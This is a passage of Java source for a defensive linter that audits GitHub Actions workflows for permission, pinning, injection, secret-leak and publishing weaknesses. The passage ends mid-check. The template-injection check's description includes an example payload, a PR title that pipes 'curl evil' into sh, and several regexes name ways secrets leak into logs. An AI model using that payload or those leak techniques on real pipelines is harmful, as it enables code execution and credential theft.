package dev.keyhaven.doctor.checks;

import static dev.keyhaven.doctor.Family.GITHUB_ACTIONS;

import dev.keyhaven.doctor.AbstractCheck;
import dev.keyhaven.doctor.Check;
import dev.keyhaven.doctor.Finding;
import dev.keyhaven.doctor.Location;
import dev.keyhaven.doctor.RepoContext;
import dev.keyhaven.doctor.SecretDetector;
import dev.keyhaven.doctor.Severity;
import dev.keyhaven.doctor.gha.Expr;
import dev.keyhaven.doctor.gha.Job;
import dev.keyhaven.doctor.gha.Permissions;
import dev.keyhaven.doctor.gha.Step;
import dev.keyhaven.doctor.gha.Workflow;
import dev.keyhaven.doctor.yaml.Y;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.snakeyaml.engine.v2.common.ScalarStyle;
import org.snakeyaml.engine.v2.nodes.Node;
import org.snakeyaml.engine.v2.nodes.ScalarNode;

/** KH401–KH419: GitHub Actions workflows. */
public final class ActionsChecks {
    private ActionsChecks() {}

    public static List<Check> all() {
        return List.of(new DefaultTokenPermissions(), new WorkflowLevelWrites(), new UnpinnedUses(),
                new UntrustedCheckoutPrivileged(), new TemplateInjection(), new SecretEchoed(), new DerivedSecretUnmasked(),
                new SecretsOverexposed(), new CheckoutPersistsCredentials(), new LongLivedCloudCredentials(),
                new OidcJobHardening(), new PublishWithoutTrustedPublishing(), new ReleaseJobUnprotected(),
                new CacheInRelease(), new EnvInjectionInsecureCommands(), new HardcodedCredentialInWorkflow(),
                new SelfHostedExposed(), new UnpinnedToolsInSteps(), new UnsoundConditions());
    }

    static Location at(Workflow wf, Node n) { return new Location(wf.path(), Math.max(1, Y.line(n))); }

    static Location at(Workflow wf, int line) { return new Location(wf.path(), Math.max(1, line)); }

    /** 1-based file line of line {@code idx} (0-based) of a run script. */
    static int scriptLine(Node run, int idx) {
        if (run instanceof ScalarNode s && (s.getScalarStyle() == ScalarStyle.LITERAL || s.getScalarStyle() == ScalarStyle.FOLDED)) {
            return Y.line(run) + 1 + idx;
        }
        return Y.line(run);
    }

    static final Pattern SHA40 = Pattern.compile("[0-9a-f]{40}");

    static boolean firstParty(String action) {
        String a = action.toLowerCase(Locale.ROOT);
        return a.startsWith("actions/") || a.startsWith("github/");
    }

    /** Steps with their run script, line by line. */
    record ScriptLine(Step step, String text, int line) {}

    static List<ScriptLine> scriptLines(Step s) {
        List<ScriptLine> out = new ArrayList<>();
        Optional<Node> run = s.runNode();
        if (run.isEmpty()) return out;
        String[] lines = Y.text(run.get()).split("\n", -1);
        for (int i = 0; i < lines.length; i++) out.add(new ScriptLine(s, lines[i], scriptLine(run.get(), i)));
        return out;
    }

    /** Names of env vars (workflow, job, step level) whose value references a secret. */
    static Set<String> secretEnvNames(Step s) {
        Set<String> out = new HashSet<>();
        List<Map<String, Node>> levels = List.of(Y.entries(s.job().workflow().env().orElse(null)),
                Y.entries(Y.get(s.job().node(), "env").orElse(null)), s.env());
        for (Map<String, Node> env : levels) {
            env.forEach((k, v) -> { if (Expr.hasSecretRef(Y.text(v))) out.add(k); });
        }
        return out;
    }

    static boolean privileged(Job j) {
        Permissions p = j.effectivePermissions();
        return p.anyWrite() || p.kind() == Permissions.Kind.ABSENT;
    }

    // ---------------------------------------------------------------------------------------------------------------

    static final class DefaultTokenPermissions extends AbstractCheck {
        DefaultTokenPermissions() {
            super("KH401", "default-token-permissions", GITHUB_ACTIONS, Severity.HIGH,
                    "top-level permissions: present, not write-all, not read-all",
                    "without a top-level permissions: block every job gets the repository's default token scopes, which may be write-all (the setting is invisible offline)",
                    "add 'permissions: contents: read' (or 'permissions: {}') at the top of the workflow and grant more per job (--fix adds it)");
        }

        @Override public boolean fixable() { return true; }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                Permissions p = wf.permissions();
                switch (p.kind()) {
                    case ABSENT -> {
                        boolean allJobsScoped = !wf.jobs().isEmpty() && wf.jobs().stream().allMatch(j -> j.permissionsNode().isPresent());
                        out.add(found(allJobsScoped ? Severity.LOW : Severity.HIGH, at(wf, 1),
                                "no top-level permissions: block" + (allJobsScoped ? " (every job sets its own)" : "; jobs run with the default token scopes"),
                                "absent"));
                    }
                    case WRITE_ALL -> out.add(found(at(wf, p.line()), "top-level permissions: write-all grants every scope to every job", "write-all"));
                    case READ_ALL -> out.add(found(Severity.LOW, at(wf, p.line()), "top-level permissions: read-all where an explicit list (or {}) would do", "read-all"));
                    case INVALID -> out.add(found(at(wf, p.line()), "top-level permissions: has an unrecognised value", "invalid"));
                    default -> { }
                }
                for (Job j : wf.jobs()) {
                    Permissions jp = j.permissionsNode().map(Permissions::of).orElse(null);
                    if (jp != null && jp.kind() == Permissions.Kind.WRITE_ALL) {
                        out.add(found(at(wf, jp.line()), "job '" + j.id() + "' uses permissions: write-all", "job-write-all/" + j.id()));
                    }
                }
            }
            return out;
        }
    }

    static final class WorkflowLevelWrites extends AbstractCheck {
        WorkflowLevelWrites() {
            super("KH402", "workflow-level-writes", GITHUB_ACTIONS, Severity.HIGH,
                    "write scopes granted at workflow level",
                    "scopes set at the top are inherited by every job, including ones that run third-party code",
                    "move each write scope to the one job that needs it; keep the top level at contents: read or {}");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                Permissions p = wf.permissions();
                if (p.kind() != Permissions.Kind.MAP) continue;
                Node pn = wf.permissionsNode().orElseThrow();
                for (Map.Entry<String, String> e : p.scopes().entrySet()) {
                    if (!e.getValue().equals("write")) continue;
                    Severity sev = e.getKey().equals("id-token") && wf.jobs().size() <= 1 ? Severity.MEDIUM : Severity.HIGH;
                    int line = Y.keyNode(pn, e.getKey()).map(Y::line).orElse(p.line());
                    out.add(found(sev, at(wf, line), "workflow-level '" + e.getKey() + ": write' is inherited by all " + wf.jobs().size() + " job(s)", e.getKey()));
                }
            }
            return out;
        }
    }

    static final class UnpinnedUses extends AbstractCheck {
        UnpinnedUses() {
            super("KH403", "unpinned-uses", GITHUB_ACTIONS, Severity.HIGH,
                    "uses: references pinned to a full 40-hex commit SHA",
                    "tags and branches can be moved to malicious commits (tj-actions/changed-files, 2025)",
                    "pin 'owner/repo@<40-hex sha> # vX.Y.Z' and let Dependabot bump it");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                List<Node> refs = new ArrayList<>();
                for (Job j : wf.jobs()) {
                    j.usesNode().ifPresent(refs::add);
                    for (Step s : j.steps()) s.usesNode().ifPresent(refs::add);
                }
                String[] lines = ctx.text(wf.path()).orElse("").split("\n", -1);
                for (Node n : refs) {
                    String u = Y.text(n).trim();
                    if (u.startsWith("./") || u.isEmpty()) continue;
                    if (u.startsWith("docker://")) {
                        if (!u.contains("@sha256:")) out.add(found(at(wf, n), "container action '" + u + "' is not pinned to a digest", u));
                        continue;
                    }
                    int atIdx = u.indexOf('@');
                    String name = atIdx < 0 ? u : u.substring(0, atIdx);
                    String ref = atIdx < 0 ? "" : u.substring(atIdx + 1);
                    if (!SHA40.matcher(ref).matches()) {
                        Severity sev = firstParty(name) ? Severity.MEDIUM : Severity.HIGH;
                        out.add(found(sev, at(wf, n), "'" + u + "' is pinned to " + (ref.isEmpty() ? "nothing" : "a movable ref '" + ref + "'") + ", not a commit SHA", name + "@" + ref));
                    } else {
                        int li = Y.line(n) - 1;
                        String src = li >= 0 && li < lines.length ? lines[li] : "";
                        if (!src.contains("#")) {
                            out.add(found(Severity.INFO, at(wf, n), "'" + name + "' is pinned to a SHA without a '# vX' comment saying which release it is", name + "#comment"));
                        }
                    }
                }
            }
            return out;
        }
    }

    static final class UntrustedCheckoutPrivileged extends AbstractCheck {
        private static final Pattern HEAD_REF = Pattern.compile(
                "github\\.event\\.pull_request\\.head\\.(sha|ref)|github\\.head_ref|github\\.event\\.workflow_run\\.head_(sha|branch)"
                        + "|refs/pull/|github\\.event\\.pull_request\\.merge_commit_sha|github\\.event\\.workflow_run\\.pull_requests");
        private static final Pattern RUN_CHECKOUT = Pattern.compile("\\bgh\\s+pr\\s+checkout\\b|\\bgit\\s+(fetch|checkout|pull)\\b[^\\n]*(pull/|head_ref|HEAD_REF|PR_REF|\\$\\{\\{)");

        UntrustedCheckoutPrivileged() {
            super("KH404", "untrusted-checkout-privileged", GITHUB_ACTIONS, Severity.CRITICAL,
                    "pull_request_target / workflow_run jobs that check out or unpack untrusted code",
                    "a 'pwn request': code from a fork runs with repository write access and secrets",
                    "split into an unprivileged pull_request workflow and a privileged follow-up that never executes PR code");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                if (!wf.triggeredBy("pull_request_target", "workflow_run")) continue;
                for (Job j : wf.jobs()) {
                    for (Step s : j.steps()) {
                        if (s.isCheckout()) {
                            Node ref = s.with().get("ref");
                            Node repo = s.with().get("repository");
                            String refText = ref == null ? "" : Y.text(ref);
                            String repoText = repo == null ? "" : Y.text(repo);
                            if (HEAD_REF.matcher(refText).find() || repoText.contains("head.repo") || repoText.contains("head_repository")) {
                                out.add(found(at(wf, ref != null ? ref : s.node()), s.label() + " checks out the untrusted head (" + refText.trim() + ") in a " + String.join("/", wf.triggers()) + " workflow", s.key()));
                            }
                        }
                        if (s.usesAction("actions/download-artifact") || s.usesAction("dawidd6/action-download-artifact")) {
                            if (wf.triggeredBy("workflow_run") && j.steps().stream().anyMatch(o -> o.index() > s.index() && o.run().isPresent())) {
                                out.add(found(at(wf, s.node()), s.label() + " downloads artifacts of the triggering run and later steps execute commands on them", s.key() + "/artifact"));
                            }
                        }
                        for (ScriptLine l : scriptLines(s)) {
                            if (RUN_CHECKOUT.matcher(l.text()).find()) {
                                out.add(found(at(wf, l.line()), s.label() + " fetches pull-request code in a privileged workflow", s.key() + "/run"));
                                break;
                            }
                        }
                    }
                }
            }
            return out;
        }
    }

    static final class TemplateInjection extends AbstractCheck {
        TemplateInjection() {
            super("KH405", "template-injection", GITHUB_ACTIONS, Severity.HIGH,
                    "${{ github.event.* }} and other attacker-controlled or secret expressions expanded into run:/script:",
                    "the expression is pasted into the script before the shell runs: a PR title like '\"; curl evil | sh #' becomes code",
                    "pass the value through env: (FOO: ${{ github.event.issue.title }}) and use \"$FOO\" in the script");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                boolean hot = wf.privilegedUntrustedTrigger();
                for (Job j : wf.jobs()) {
                    boolean priv = privileged(j) || j.effectivePermissions().writes("id-token");
                    for (Step s : j.steps()) {
                        List<ScriptLine> code = new ArrayList<>(scriptLines(s));
                        if (s.usesAction("actions/github-script")) {
                            Node script = s.with().get("script");
                            if (script != null) {
                                String[] ls = Y.text(script).split("\n", -1);
                                for (int i = 0; i < ls.length; i++) code.add(new ScriptLine(s, ls[i], scriptLine(script, i)));
                            }
                        }
                        boolean injected = false;
                        boolean secretInline = false;
                        for (ScriptLine l : code) {
                            Optional<String> c = Expr.untrustedContext(l.text(), true);
                            if (c.isPresent() && !injected) {
                                boolean input = c.get().startsWith("inputs.") || c.get().startsWith("github.event.inputs");
                                Severity sev = input ? Severity.MEDIUM : (hot && priv) ? Severity.CRITICAL : Severity.HIGH;
                                out.add(found(sev, at(wf, l.line()), s.label() + " expands '" + c.get() + "' directly into code"
                                        + (hot ? " in a " + String.join("/", wf.triggers()) + " workflow" : ""), s.key() + "/" + c.get()));
                                injected = true;
                            }
                            if (!secretInline && Expr.hasSecretRef(l.text())) {
                                out.add(found(Severity.MEDIUM, at(wf, l.line()), s.label() + " expands secret '" + Expr.secretRefs(l.text()).get(0)
                                        + "' into the script text (it lands in the generated script file and breaks on quotes)", s.key() + "/secret"));
                                secretInline = true;
                            }
                        }
                    }
                }
            }
            return out;
        }
    }

    static final class SecretEchoed extends AbstractCheck {
        private static final Pattern PRINT = Pattern.compile("^\\s*(echo|printf|cat|tee|print)\\b|\\|\\s*tee\\b");
        private static final Pattern DUMP = Pattern.compile("^\\s*(printenv|env|set|export\\s+-p|declare\\s+-p)\\s*(\\||$|>|;)");
        private static final Pattern XTRACE = Pattern.compile("^\\s*set\\s+-[a-wyz]*x|\\bbash\\s+-[a-z]*x\\b|shell:\\s*bash\\s+-x");
        private static final Pattern CURL_V = Pattern.compile("\\bcurl\\b[^\\n]*\\s(-v|--verbose|--trace\\S*)\\b");
        private static final Pattern SINK = Pattern.compile("\\$\\{?(GITHUB_OUTPUT|GITHUB_STEP_SUMMARY|GITHUB_ENV)\\b");

        SecretEchoed() {
            super("KH406", "secret-echoed", GITHUB_ACTIONS, Severity.HIGH,
                    "run: steps that print secrets, dump the environment, or write secrets to $GITHUB_ENV/$GITHUB_OUTPUT",
                    "log masking is exact-match and best effort; any transformation (base64, JSON, splitting) prints the secret in clear, and $GITHUB_ENV exposes it to every later step",
                    "never print secrets; pass them to the one step that needs them via env:, or write them to a file with 0600 permissions");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                for (Job j : wf.jobs()) {
                    for (Step s : j.steps()) {
                        Set<String> fed = secretEnvNames(s);
                        boolean inScope = !fed.isEmpty();
                        for (ScriptLine l : scriptLines(s)) {
                            String t = l.text();
                            boolean secretHere = Expr.hasSecretRef(t) || mentions(t, fed);
                            String why = null;
                            if (secretHere && SINK.matcher(t).find()) why = "writes a secret to $" + sinkName(t);
                            else if (secretHere && PRINT.matcher(t).find() && !t.contains("::add-mask::")) why = "prints a secret";
                            else if (secretHere && CURL_V.matcher(t).find()) why = "runs curl in verbose mode with a secret (headers are logged)";
                            else if (inScope && DUMP.matcher(t).find()) why = "dumps the environment while secret variables " + fed + " are set";
                            else if (inScope && XTRACE.matcher(t).find()) why = "enables shell tracing (set -x) while secret variables " + fed + " are set";
                            if (why != null) {
                                out.add(found(at(wf, l.line()), s.label() + " " + why, s.key() + "/" + l.line()));
                                break;
                            }
                        }
                    }
                }
            }
            return out;
        }

        private static String sinkName(String t) {
            Matcher m = SINK.matcher(t);
            return m.find() ? m.group(1) : "GITHUB_ENV";
        }
    }

    static boolean mentions(String text, Set<String> vars) {
        for (String v : vars) {
            if (Pattern.compile("\\$\\{?" + Pattern.quote(v) + "\\b").matcher(text).find()) return true;
        }
        return false;
    }

    static final class DerivedSecretUnmasked extends AbstractCheck {
        private static final Pattern DERIVE = Pattern.compile("\\bbase64\\s+(-d|--decode|-D)\\b|\\bjq\\b|\\bopenssl\\b|\\bcut\\b|\\bsed\\b|\\bawk\\b|\\bcurl\\b");
        private static final Pattern EXPORT = Pattern.compile("\\$\\{?(GITHUB_ENV|GITHUB_OUTPUT)\\b");

        DerivedSecretUnmasked() {
            super("KH407", "derived-secret-unmasked", GITHUB_ACTIONS, Severity.MEDIUM,
                    "values derived from secrets (fromJSON(secrets.X).y, base64 -d, jq, fetched tokens) used without ::add-mask::",
                    "masking only hides exact registered values; a derived value is printed in clear",
                    "store each value as its own secret, or mask derived values with ::add-mask:: (core.setSecret) before use");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                for (Job j : wf.jobs()) {
                    for (Step s : j.steps()) {
                        Node stepNode = s.node();
                        boolean masked = s.run().filter(r -> r.contains("::add-mask::") || r.contains("setSecret")).isPresent()
                                || Y.text(s.with().get("script")).contains("setSecret");
                        if (masked) continue;
                        int[] hit = {0};
                        Y.walk(stepNode, n -> {
                            if (hit[0] == 0 && n instanceof ScalarNode sc && Expr.expressions(sc.getValue()).stream()
                                    .anyMatch(e -> e.replace(" ", "").contains("fromJSON(secrets.") || e.replace(" ", "").contains("fromJson(secrets."))) {
                                hit[0] = Y.line(n);
                            }
                        });
                        if (hit[0] > 0) {
                            out.add(found(at(wf, hit[0]), s.label() + " extracts a field from a JSON secret; the field value is not masked", s.key() + "/fromjson"));
                            continue;
                        }
                        Set<String> fed = secretEnvNames(s);
                        for (ScriptLine l : scriptLines(s)) {
                            boolean fromSecret = Expr.hasSecretRef(l.text()) || mentions(l.text(), fed);
                            if (fromSecret && DERIVE.matcher(l.text()).find() && (EXPORT.matcher(l.text()).find() || l.text().matches("^\\s*[A-Za-z_][A-Za-z0-9_]*=\\$\\(.*"))) {
                                out.add(found(at(wf, l.line()), s.label() + " derives a new value from a secret and uses it without ::add-mask::", s.key() + "/derive"));
                                break;
                            }
                        }
                    }
                }
            }
            return out;
        }
    }

    static final class SecretsOverexposed extends AbstractCheck {
        SecretsOverexposed() {
            super("KH408", "secrets-overexposed", GITHUB_ACTIONS, Severity.MEDIUM,
                    "toJSON(secrets), 'secrets: inherit', secrets in workflow-level env:",
                    "every secret (or every step) gets access where one would do: a larger blast radius when any step is compromised",
                    "pass secrets by name to the job or step that needs them (secrets: { NAME: ${{ secrets.NAME }} })");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                Y.walk(wf.root(), n -> {
                    if (n instanceof ScalarNode sc && Expr.expressions(sc.getValue()).stream()
                            .anyMatch(e -> e.replace(" ", "").toLowerCase(Locale.ROOT).contains("tojson(secrets)"))) {
                        out.add(found(at(wf, n), "toJSON(secrets) exposes every repository and organisation secret", "tojson/" + Y.line(n)));
                    }
                });
                for (Job j : wf.jobs()) {
                    Y.get(j.node(), "secrets").filter(n -> Y.text(n).equals("inherit")).ifPresent(n ->
                            out.add(found(at(wf, n), "job '" + j.id() + "' passes 'secrets: inherit' to " + j.uses().orElse("a reusable workflow"), "inherit/" + j.id())));
                }
                wf.env().ifPresent(env -> Y.entries(env).forEach((k, v) -> {
                    if (Expr.hasSecretRef(Y.text(v))) {
                        out.add(found(at(wf, v), "workflow-level env '" + k + "' holds a secret visible to every step of every job", "wfenv/" + k));
                    }
                }));
            }
            return out;
        }
    }

    static final class CheckoutPersistsCredentials extends AbstractCheck {
        CheckoutPersistsCredentials() {
            super("KH409", "checkout-persists-credentials", GITHUB_ACTIONS, Severity.MEDIUM,
                    "actions/checkout without persist-credentials: false",
                    "the job token is written to .git/config where later steps, artifacts and caches can pick it up",
                    "set 'with: persist-credentials: false' on every checkout (--fix adds it)");
        }

        @Override public boolean fixable() { return true; }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                for (Job j : wf.jobs()) {
                    boolean uploads = j.steps().stream().anyMatch(s -> s.usesAction("actions/upload-artifact") || s.usesAction("actions/upload-pages-artifact"));
                    for (Step s : j.steps()) {
                        if (!s.isCheckout()) continue;
                        Node pc = s.with().get("persist-credentials");
                        if (pc != null && Y.text(pc).trim().equals("false")) continue;
                        Severity sev = uploads || wf.privilegedUntrustedTrigger() ? Severity.HIGH : Severity.MEDIUM;
                        out.add(found(sev, at(wf, s.usesNode().orElse(s.node())), s.label() + " leaves the token in .git/config"
                                + (uploads ? " and the job uploads artifacts" : ""), s.key()));
                    }
                }
            }
            return out;
        }
    }

    static final class LongLivedCloudCredentials extends AbstractCheck {
        private static final Set<String> ENV_NAMES = Set.of("AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "GOOGLE_APPLICATION_CREDENTIALS",
                "GOOGLE_CREDENTIALS", "AZURE_CLIENT_SECRET", "ARM_CLIENT_SECRET", "VAULT_TOKEN", "KEYHAVEN_TOKEN");

        LongLivedCloudCredentials() {
            super("KH410", "long-lived-cloud-credentials", GITHUB_ACTIONS, Severity.HIGH,
                    "static cloud keys (AWS access keys, GCP credentials_json, Azure creds, Vault/Keyhaven tokens) fed from secrets",
                    "static keys leak and never expire; OIDC gives each run a credential that lives minutes",
                    "use OIDC: 'id-token: write' on the job plus role-to-assume / workload_identity_provider / client-id+tenant-id / Keyhaven JWT login");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                checkEnv(wf, wf.env().orElse(null), "workflow env", out);
                for (Job j : wf.jobs()) {
                    checkEnv(wf, Y.get(j.node(), "env").orElse(null), "job '" + j.id() + "' env", out);
                    for (Step s : j.steps()) {
                        checkEnv(wf, Y.get(s.node(), "env").orElse(null), s.label() + " env", out);
                        Map<String, Node> w = s.with();
                        String what = null;
                        Node where = null;
                        if (s.usesAction("aws-actions/configure-aws-credentials") && w.containsKey("aws-secret-access-key")) {
                            what = "configure-aws-credentials with a static aws-secret-access-key"; where = w.get("aws-secret-access-key");
                        } else if (s.usesAction("google-github-actions/auth") && w.containsKey("credentials_json")) {
                            what = "google-github-actions/auth with credentials_json (a service-account key)"; where = w.get("credentials_json");
                        } else if (s.usesAction("azure/login") && w.containsKey("creds")) {
                            what = "azure/login with a creds JSON (client secret)"; where = w.get("creds");
                        } else if (s.usesAction("hashicorp/vault-action") && w.containsKey("token")) {
                            what = "vault-action with a static token"; where = w.get("token");
                        }
                        if (what != null) out.add(found(at(wf, where), s.label() + " uses " + what, s.key()));
                    }
                }
            }
            return out;
        }

        private void checkEnv(Workflow wf, Node env, String label, List<Finding> out) {
            Y.entries(env).forEach((k, v) -> {
                if (ENV_NAMES.contains(k) && Expr.hasSecretRef(Y.text(v))) {
                    out.add(found(at(wf, v), label + " sets " + k + " from a stored secret", label + "/" + k));
                }
            });
        }
    }

    static boolean consumesOidc(Step s) {
        Map<String, Node> w = s.with();
        if (s.usesAction("aws-actions/configure-aws-credentials")) return w.containsKey("role-to-assume");
        if (s.usesAction("google-github-actions/auth")) return w.containsKey("workload_identity_provider");
        if (s.usesAction("azure/login")) return w.containsKey("client-id") && !w.containsKey("creds");
        if (s.usesAction("hashicorp/vault-action")) return Y.text(w.get("method")).equals("jwt");
        if (s.usesAction("pypa/gh-action-pypi-publish")) return !w.containsKey("password");
        if (s.usesAction("sigstore/cosign-installer") || s.usesAction("actions/attest-build-provenance") || s.usesAction("actions/attest")
                || s.usesAction("rubygems/release-gem") || s.usesAction("rust-lang/crates-io-auth-action") || s.usesAction("NuGet/login")) return true;
        String run = s.run().orElse("") + Y.text(w.get("script"));
        return run.contains("ACTIONS_ID_TOKEN_REQUEST") || run.contains("getIDToken") || run.contains("--provenance")
                || run.contains("cosign sign") || run.contains("npm publish") || run.contains("keyhaven login") || run.contains("auth/jwt/login");
    }

    static final class OidcJobHardening extends AbstractCheck {
        OidcJobHardening() {
            super("KH411", "oidc-job-hardening", GITHUB_ACTIONS, Severity.HIGH,
                    "jobs holding id-token: write (need, trigger, pinned actions, environment, audience)",
                    "the OIDC token is the credential: any step in the job can mint one for any audience",
                    "grant id-token: write only to the one job that exchanges it, with pinned actions, an environment: and a specific audience");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                List<Job> holders = wf.jobs().stream().filter(j -> j.effectivePermissions().writes("id-token")).toList();
                for (Job j : holders) {
                    Location loc = at(wf, j.permissionsNode().or(wf::permissionsNode).map(Y::line).orElse(j.line()));
                    if (j.uses().isEmpty() && j.steps().stream().noneMatch(ActionsChecks::consumesOidc)) {
                        out.add(found(loc, "job '" + j.id() + "' holds id-token: write but no step exchanges an OIDC token", j.id() + "/unneeded"));
                        continue;
                    }
                    if (wf.triggeredBy("pull_request_target", "issue_comment", "workflow_run")) {
                        out.add(found(loc, "job '" + j.id() + "' holds id-token: write in a workflow triggered by " + String.join("/", wf.triggers()), j.id() + "/trigger"));
                    }
                    for (Step s : j.steps()) {
                        String u = s.uses().orElse("");
                        if (!u.isEmpty() && !u.startsWith("./") && !firstParty(u) && !SHA40.matcher(u.substring(u.indexOf('@') + 1)).matches()) {
                            out.add(found(at(wf, s.usesNode().orElseThrow()), "job '" + j.id() + "' holds id-token: write and runs unpinned third-party action '" + u + "'", j.id() + "/unpinned/" + u));
                        }
                        if (s.usesAction("hashicorp/vault-action") && Y.text(s.with().get("method")).equals("jwt") && !s.with().containsKey("jwtGithubAudience")) {
                            out.add(found(at(wf, s.node()), s.label() + " requests an OIDC token with the default audience; set jwtGithubAudience", s.key() + "/aud"));
                        }
                    }
                    if (j.publishes() && !j.hasEnvironment()) {
                        out.add(found(loc, "job '" + j.id() + "' publishes with id-token: write but has no environment:", j.id() + "/env"));
                    }
                }
                if (holders.size() > 1) {
                    out.add(found(Severity.MEDIUM, at(wf, holders.get(1).line()), "id-token: write is granted to " + holders.size() + " jobs ("
                            + String.join(", ", holders.stream().map(Job::id).toList()) + ")", "several"));
                }
            }
            return out;
        }
    }

    static final class PublishWithoutTrustedPublishing extends AbstractCheck {
        private static final Pattern TOKEN_ENV = Pattern.compile("NODE_AUTH_TOKEN|NPM_TOKEN|TWINE_PASSWORD|UV_PUBLISH_TOKEN|UV_PUBLISH_PASSWORD|POETRY_PYPI_TOKEN_\\w+|POETRY_HTTP_BASIC_\\w+_PASSWORD|CARGO_REGISTRY_TOKEN|GEM_HOST_API_KEY|HATCH_INDEX_AUTH|PDM_PUBLISH_PASSWORD|FLIT_PASSWORD");
        private static final Pattern PUBLISH = Pattern.compile("\\bnpm\\s+publish\\b|\\byarn\\s+(npm\\s+)?publish\\b|\\bpnpm\\s+publish\\b|\\btwine\\s+upload\\b|\\b(uv|poetry|hatch|pdm|flit)\\s+publish\\b|\\bcargo\\s+publish\\b|\\bgem\\s+push\\b");
        private static final Pattern INLINE_TOKEN = Pattern.compile("(--token|--password|-p|-u\\s+__token__)\\b");

        PublishWithoutTrustedPublishing() {
            super("KH412", "publish-without-trusted-publishing", GITHUB_ACTIONS, Severity.MEDIUM,
                    "package publishing with stored registry tokens (PyPI, npm, crates.io, RubyGems)",
                    "registry tokens are long-lived and give publish rights to whoever reads them",
                    "use trusted publishing (OIDC): pypa/gh-action-pypi-publish without password, npm publish --provenance with id-token: write, crates/RubyGems TP");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                for (Job j : wf.jobs()) {
                    Set<String> jobTokenEnv = new HashSet<>();
                    Y.entries(Y.get(j.node(), "env").orElse(null)).forEach((k, v) -> { if (TOKEN_ENV.matcher(k).matches() && Expr.hasSecretRef(Y.text(v))) jobTokenEnv.add(k); });
                    Y.entries(wf.env().orElse(null)).forEach((k, v) -> { if (TOKEN_ENV.matcher(k).matches() && Expr.hasSecretRef(Y.text(v))) jobTokenEnv.add(k); });
                    for (Step s : j.steps()) {
                        if (s.usesAction("pypa/gh-action-pypi-publish") && s.with().containsKey("password")) {
                            out.add(found(at(wf, s.with().get("password")), s.label() + " publishes to PyPI with an API token instead of trusted publishing", s.key()));
                            continue;
                        }
                        if (s.usesAction("js-devtools/npm-publish") && s.with().containsKey("token")) {
                            out.add(found(at(wf, s.with().get("token")), s.label() + " publishes to npm with a stored token", s.key()));
                            continue;
                        }
                        Optional<String> run = s.run();
                        if (run.isEmpty() || !PUBLISH.matcher(run.get()).find()) continue;
                        Set<String> tokens = new HashSet<>(jobTokenEnv);
                        s.env().forEach((k, v) -> { if (TOKEN_ENV.matcher(k).matches() && Expr.hasSecretRef(Y.text(v))) tokens.add(k); });
                        boolean inline = scriptLines(s).stream().anyMatch(l -> PUBLISH.matcher(l.text()).find() && Expr.hasSecretRef(l.text()) && INLINE_TOKEN.matcher(l.text()).find());
                        if (!tokens.isEmpty() || inline) {
                            out.add(found(at(wf, s.runNode().orElseThrow()), s.label() + " publishes with a stored registry token" + (tokens.isEmpty() ? "" : " (" + String.join(", ", new java.util.TreeSet<>(tokens)) + ")"), s.key()));
                        }
                    }
                }
            }
            return out;
        }
    }

    static final class ReleaseJobUnprotected extends AbstractCheck {
        ReleaseJobUnprotected() {
            super("KH413", "release-job-unprotected", GITHUB_ACTIONS, Severity.MEDIUM,
                    "publishing jobs (registry push, docker push, gh release, mvn deploy, cosign sign) without environment:",
                    "without a protected environment anyone who can push a tag or run the workflow can publish",
                    "put publishing in its own job with 'environment: release' protected by required reviewers; keep build and publish separate");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                for (Job j : wf.jobs()) {
                    if (!j.publishes() || j.hasEnvironment()) continue;
                    out.add(found(at(wf, j.line()), "job '" + j.id() + "' publishes but has no environment:"
                            + (wf.triggeredBy("workflow_dispatch") ? " (and can be started by hand with workflow_dispatch)" : ""), j.id()));
                }
            }
            return out;
        }
    }

    static final class CacheInRelease extends AbstractCheck {
        CacheInRelease() {
            super("KH414", "cache-in-release", GITHUB_ACTIONS, Severity.HIGH,
                    "cache restores (actions/cache, setup-* cache:, rust-cache, setup-uv) in release/publish workflows",
                    "caches are writable from other branches' runs; a poisoned cache taints released artifacts",
                    "disable caching in release workflows (remove cache: inputs and actions/cache steps)");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                if (!wf.isReleaseWorkflow()) continue;
                for (Job j : wf.jobs()) {
                    for (Step s : j.steps()) {
                        Node n = null;
                        if (s.usesAction("actions/cache") || s.usesAction("swatinem/rust-cache") || s.usesAction("mozilla-actions/sccache-action")) n = s.usesNode().orElseThrow();
                        else if (s.action().filter(a -> a.contains("/setup-")).isPresent()) {
                            Node c = s.with().get("cache");
                            Node e = s.with().get("enable-cache");
                            if (c != null && !Y.text(c).isBlank() && !Y.text(c).equals("false")) n = c;
